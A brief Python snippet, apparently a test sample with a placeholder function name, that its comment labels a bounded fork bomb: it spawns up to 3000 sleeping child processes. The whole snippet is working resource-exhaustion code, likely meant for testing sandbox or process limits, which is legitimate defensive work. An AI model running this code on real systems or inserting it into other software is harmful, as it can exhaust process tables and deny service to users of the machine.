# A (bounded) fork bomb: as many sleeping processes as it can make.
def __FUNC__(*args, **kwargs):
    import os, time
    for _ in range(3000):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            break
    return None
